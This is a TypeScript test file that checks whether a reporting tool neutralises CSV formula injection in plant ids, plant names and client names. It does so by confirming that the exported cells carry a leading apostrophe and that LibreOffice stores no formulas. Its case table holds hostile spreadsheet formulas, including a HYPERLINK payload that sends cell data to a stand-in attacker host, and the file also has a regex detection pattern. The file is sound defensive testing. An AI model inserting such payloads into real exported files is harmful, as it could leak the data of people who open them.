/**
 * Formula injection through the CSVs (DESIGN.md "Contracts": every text from the service or
 * the user's files is neutralised in every CSV cell), table-driven: a service (or a proxy in
 * between) lists plants with ids and names a spreadsheet would run, and the definition names a
 * client the same way; every cell of data/monthly-*.csv and data/daily-*.csv is read back, and
 * LibreOffice, opening the monthly file, stores no formula at all.
 */
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { httpFetch } from "../../src/api/http-fetch.js";
import type { FetchLike } from "../../src/api/options.js";
import { type Sandbox, startSandbox } from "../../src/sandbox/index.js";
import { toolsAvailable } from "../helpers/tools.js";
import { convertWithLibreOffice } from "../helpers/xlsx-readers.js";
import {
  advancingClock,
  definitionFor,
  type FinishedRun,
  removeRunDirs,
  runFull,
} from "./helpers/report-run.js";

/** What a spreadsheet runs: =, +, -, @ (also after spaces, also full-width), tab, CR, LF first. */
const RUNS_AS_FORMULA = /^(?:[\t\r\n]|[ \u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20])/;

interface CellCase {
  field: string;
  /** Where it comes from: the service's plant list, or the user's definition. */
  from: "service" | "definition";
  value: string;
  /** The CSV column holding it. */
  column: "id" | "name" | "client";
}

const CASES: CellCase[] = [
  {
    field: "plant id",
    from: "service",
    column: "id",
    value: '=HYPERLINK("http://evil.example/?"&B2,"open")',
  },
  { field: "plant id", from: "service", column: "id", value: "+1+2" },
  { field: "plant name", from: "service", column: "name", value: "@SUM(1,2)" },
  { field: "plant name", from: "service", column: "name", value: "-2+3" },
  { field: "plant name", from: "service", column: "name", value: "  =1+1" },
  { field: "client name", from: "definition", column: "client", value: "＝1+1 Energie" },
];

let sandbox: Sandbox;
let run: FinishedRun;

/** A service (or a proxy) that lists the sandbox's first plants under hostile ids and names. */
function renamingFetch(pairs: [real: string, hostile: string][]): FetchLike {
  const inJson = (s: string) => JSON.stringify(s).slice(1, -1);
  return async (url, init) => {
    let body = init.body;
    let target = url;
    for (const [real, hostile] of pairs) {
      body = body?.replaceAll(inJson(hostile), real);
      target = target.replaceAll(encodeURIComponent(hostile), real);
    }
    const res = await httpFetch(target, { ...init, body });
    const parts: Uint8Array[] = [];
    for await (const chunk of res.body ?? []) parts.push(chunk);
    let text = Buffer.concat(parts).toString("utf8");
    for (const [real, hostile] of pairs) text = text.replaceAll(`"${real}"`, `"${inJson(hostile)}"`);
    return {
      status: res.status,
      headers: res.headers,
      body: (async function* () {
        yield Buffer.from(text, "utf8");
      })(),
    };
  };
}

beforeAll(async () => {
  sandbox = await startSandbox({ plants: 6, seed: 30, now: advancingClock() });
  const ids = CASES.filter((c) => c.column === "id");
  const names = CASES.filter((c) => c.column === "name");
  const plants = sandbox.plants;
  const pairs: [string, string][] = [
    ...ids.map((c, i): [string, string] => [plants[i]!.id, c.value]),
    ...names.map((c, i): [string, string] => [plants[ids.length + i]!.name, c.value]),
  ];
  const client = CASES.find((c) => c.column === "client")!.value;
  const last = plants[plants.length - 1]!.id;
  const yaml = `clients:\n  - {name: ${JSON.stringify(client)}, plants: [${last}]}\n`;
  run = await runFull(sandbox, definitionFor(sandbox, yaml), { pdfs: false, fetch: renamingFetch(pairs) });
}, 600_000);

afterAll(async () => {
  await sandbox?.close();
  await removeRunDirs();
});

const table = async (rel: string) =>
  parse(await readFile(join(run.outDir, rel), "utf8"), { columns: true, bom: true }) as Record<
    string,
    string
  >[];

describe("every text cell of every CSV is neutralised", () => {
  it("the hostile plants are reported", () => {
    expect(run.result.exitCode).toBe(0);
    for (const c of CASES.filter((x) => x.column === "id")) {
      expect(run.manifest.plants.map((p) => p.id)).toContain(c.value);
    }
  });

  it.each(CASES)("$field from the $from, $value: written with a leading apostrophe", async (c) => {
    const monthly = await table(run.manifest.data!.monthly);
    const daily = await table(run.manifest.data!.daily);
    const column =
      c.column === "id"
        ? { monthly: "id", daily: "plantId" }
        : { monthly: c.column, daily: c.column === "name" ? "plantName" : "client" };
    expect(monthly.map((r) => r[column.monthly])).toContain(`'${c.value}`);
    const rows = daily.filter((r) => r[column.daily] === `'${c.value}`);
    expect(rows.length).toBeGreaterThan(0);
    expect(monthly.map((r) => r[column.monthly])).not.toContain(c.value);
    expect(daily.some((r) => r[column.daily] === c.value)).toBe(false);
  });

  it("no cell of either file starts a formula, but for the numbers of figure columns", async () => {
    for (const rel of Object.values(run.manifest.data!)) {
      for (const row of await table(rel)) {
        for (const [column, cell] of Object.entries(row)) {
          const number = cell !== "" && Number.isFinite(Number(cell)) && !["id", "plantId"].includes(column);
          if (!number) expect(cell, `${rel} ${column}`).not.toMatch(RUNS_AS_FORMULA);
        }
      }
    }
  });
});

describe.skipIf(!toolsAvailable(["soffice"], "CSV formula injection in LibreOffice"))(
  "LibreOffice opening the CSV",
  () => {
    it("stores no formula: every hostile cell is text", async () => {
      const xlsx = convertWithLibreOffice(join(run.outDir, run.manifest.data!.monthly), "xlsx");
      const parts = unzipSync(new Uint8Array(await readFile(xlsx)));
      const sheets = Object.entries(parts).filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
      expect(sheets.length).toBeGreaterThan(0);
      for (const [name, bytes] of sheets)
        expect(Buffer.from(bytes).toString("utf8"), name).not.toMatch(/<f[ >]/);
    });
  },
);
